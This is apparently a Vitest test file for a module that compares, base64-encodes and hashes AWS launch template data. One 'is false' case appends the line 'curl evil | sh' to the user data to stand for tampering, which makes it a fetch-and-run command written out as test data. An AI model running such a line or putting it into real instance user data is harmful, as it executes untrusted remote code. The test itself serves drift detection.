import { describe, expect, it } from 'vitest';
import {
  decoded,
  describedHash,
  encoded,
  sameTemplateData,
  versionDescription,
} from '../../../controller/resources/launch-template/template-data.ts';

const want = {
  UserData: 'MIME-Version: 1.0\n\n#!/bin/bash\necho "größer"\n',
  MetadataOptions: { HttpTokens: 'required', HttpPutResponseHopLimit: 2 },
  SecurityGroupIds: ['sg-1', 'sg-2'],
  BlockDeviceMappings: [
    { DeviceName: '/dev/xvda', Ebs: { VolumeSize: 30, Encrypted: true } },
    { DeviceName: '/dev/xvdb', Ebs: { VolumeSize: 8 } },
  ],
};

describe('sameTemplateData', () => {
  it.each([
    { name: 'the same data', have: want },
    {
      name: 'lists in another order',
      have: {
        ...want,
        SecurityGroupIds: ['sg-2', 'sg-1'],
        BlockDeviceMappings: [...want.BlockDeviceMappings].reverse(),
      },
    },
    {
      name: 'numbers as text',
      have: { ...want, MetadataOptions: { HttpTokens: 'required', HttpPutResponseHopLimit: '2' } },
    },
    {
      name: 'defaults inside members',
      have: { ...want, MetadataOptions: { ...want.MetadataOptions, State: 'applied', HttpEndpoint: 'enabled' } },
    },
    {
      name: 'members that do nothing beside the wanted ones',
      have: { ...want, EbsOptimized: false, NetworkInterfaces: [], Placement: {}, KeyName: undefined },
    },
    {
      name: 'the tags of the template among those of its instances',
      have: { ...want, TagSpecifications: [{ ResourceType: 'launch-template', Tags: [{ Key: 'a', Value: 'b' }] }] },
    },
  ])('is true for $name', ({ have }) => {
    expect(sameTemplateData(want, have)).toBe(true);
  });

  it.each([
    { name: 'other user data', have: { ...want, UserData: `${want.UserData}curl evil | sh\n` } },
    { name: 'no user data', have: { ...want, UserData: undefined } },
    {
      name: 'another value inside',
      have: { ...want, MetadataOptions: { HttpTokens: 'optional', HttpPutResponseHopLimit: 2 } },
    },
    { name: 'one item more', have: { ...want, SecurityGroupIds: ['sg-1', 'sg-2', 'sg-3'] } },
    { name: 'one item less', have: { ...want, SecurityGroupIds: ['sg-1'] } },
    { name: 'one item twice', have: { ...want, SecurityGroupIds: ['sg-1', 'sg-1'] } },
    { name: 'a scalar for a list', have: { ...want, SecurityGroupIds: 'sg-1,sg-2' } },
    { name: 'a key pair beside the wanted members', have: { ...want, KeyName: 'mallory' } },
    { name: 'a flag beside the wanted members', have: { ...want, DisableApiTermination: true } },
    {
      name: 'tags of instances beside the wanted members',
      have: { ...want, TagSpecifications: [{ ResourceType: 'instance', Tags: [{ Key: 'a', Value: 'b' }] }] },
    },
  ])('is false for $name', ({ have }) => {
    expect(sameTemplateData(want, have)).toBe(false);
  });

  it('compares what is wanted off', () => {
    expect(sameTemplateData({ Monitoring: { Enabled: false } }, {})).toBe(true);
    expect(sameTemplateData({ Monitoring: { Enabled: false } }, { Monitoring: { Enabled: true } })).toBe(false);
  });
});

it('carries user data in base64 and back', () => {
  expect(encoded(want)).toEqual({ ...want, UserData: Buffer.from(want.UserData).toString('base64') });
  expect(decoded(encoded(want))).toEqual(want);
  expect(decoded(encoded({ ImageId: 'ami-1' }))).toEqual({ ImageId: 'ami-1' });
});

it('names the content in the description', () => {
  const description = versionDescription(want);

  expect(description).toMatch(/^batchwright [0-9a-f]{16}$/);
  expect(versionDescription({ ...want })).toBe(description);
  expect(versionDescription({ ...want, UserData: '' })).not.toBe(description);
  expect(describedHash(description)).toBe(description.slice('batchwright '.length));
});

it.each([undefined, '', 'initial version', 'batchwright', 'batchwright xyz', 'batchwright 0123456789abcdef and more'])(
  'finds no content in the description %j',
  description => {
    expect(describedHash(description)).toBeUndefined();
  },
);
